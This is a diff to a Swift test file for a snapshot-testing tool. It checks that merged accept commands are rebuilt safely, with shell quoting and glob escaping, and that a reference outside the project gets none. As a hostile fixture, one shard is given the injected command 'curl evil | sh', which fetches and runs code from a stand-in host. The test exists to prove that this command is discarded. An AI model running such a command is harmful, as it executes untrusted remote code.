@@ -89,14 +89,27 @@ import Testing
         }
     }
 
-    /// The merged accept command copies from the merged folder to the checked reference,
-    /// whatever the shard's said; a reference outside the project gets none.
+    /// The merged accept command accepts from the merged folder (a spec's snapshot with
+    /// `render-cells accept` and its id, quoted and its glob characters escaped; a Swift
+    /// test's picture copied to the checked reference), whatever the shard's said; a reference
+    /// outside the project gets none.
     @Test func acceptCommandsAreMadeAgain() throws {
         let scratch = try Scratch()
         try scratch.shard(\.diff, "pics/a.png", accept: "curl evil | sh")
         let merged = try scratch.merge()
-        #expect(merged.results.first?.acceptCommand == "cp 'merged/pics/a.png' '__Snapshots__/a.png'")
+        #expect(merged.results.first?.acceptCommand == "render-cells accept 'merged' 'a.yaml#default'")
         #expect(!scratch.mergedPage.contains("evil"))
+        var odd = SnapshotTestResult(
+            id: "it's [a]*.yaml#default", name: "a", spec: "it's [a]*.yaml", variant: "default", status: .failed,
+            reference: "__Snapshots__/a.png")
+        odd.actual = "pics/a.png"
+        var swift = SnapshotTestResult(
+            id: "Tests/A/a.1", name: "a.1", spec: nil, variant: "", status: .failed, reference: "Tests/__Snapshots__/a.1.png")
+        swift.actual = "pics/a.png"
+        try scratch.write([odd, swift])
+        let commands = try scratch.merge().results.map(\.acceptCommand)
+        #expect(commands.contains("render-cells accept 'merged' 'it'\\''s \\[a\\]\\*.yaml#default'"), "\(commands)")
+        #expect(commands.contains("cp 'merged/pics/a.png' 'Tests/__Snapshots__/a.1.png'"), "\(commands)")
         var outside = SnapshotTestResult(
             id: "b", name: "b", spec: "b.yaml", variant: "default", status: .failed,
             reference: "/etc/b.png")
